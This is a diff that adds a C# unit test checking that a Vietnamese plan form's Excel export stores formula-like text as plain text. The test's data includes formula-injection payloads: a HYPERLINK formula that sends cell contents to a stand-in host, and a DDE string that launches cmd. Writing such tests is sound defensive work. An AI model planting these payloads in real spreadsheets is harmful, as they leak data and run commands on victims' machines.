@@ -322,6 +322,40 @@ public sealed class PlanFormTests
         Assert.True(PlanForm.Read(new OneWayStream(bytes)).IsValid);
     }
 
+    [Fact]
+    public void Text_that_looks_like_a_formula_is_written_as_text_and_read_back_unchanged()
+    {
+        const string title = "=HYPERLINK(\"http://x.example/?d=\"&A1,\"Bấm vào đây\")";
+        var original = ThanhLiem();
+        var plan = original with
+        {
+            Title = title,
+            Note = "@SUM(A1:A9)",
+            Reporters = [original.Reporters[0] with { Name = "+cmd|' /C calc'!A0" }, original.Reporters[1]],
+        };
+        var form = Form(plan);
+
+        using (var zip = new System.IO.Compression.ZipArchive(new MemoryStream(form.ToArray())))
+        {
+            foreach (var part in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
+            {
+                using var reader = new StreamReader(part.Open());
+                var xml = reader.ReadToEnd();
+                Assert.DoesNotContain("<f>", xml, StringComparison.Ordinal);
+                Assert.DoesNotContain("<x:f>", xml, StringComparison.Ordinal);
+            }
+        }
+
+        using (var workbook = new XLWorkbook(new MemoryStream(form.ToArray())))
+        {
+            var cell = workbook.Worksheet("KeHoach").CellsUsed().Single(c => c.GetString() == title);
+            Assert.False(cell.HasFormula);
+            Assert.Equal(XLDataType.Text, cell.DataType);
+        }
+
+        Assert.Equal(Canonical(plan), Canonical(Read(form)));
+    }
+
     private static MemoryStream Template(int year)
     {
         var stream = new MemoryStream();
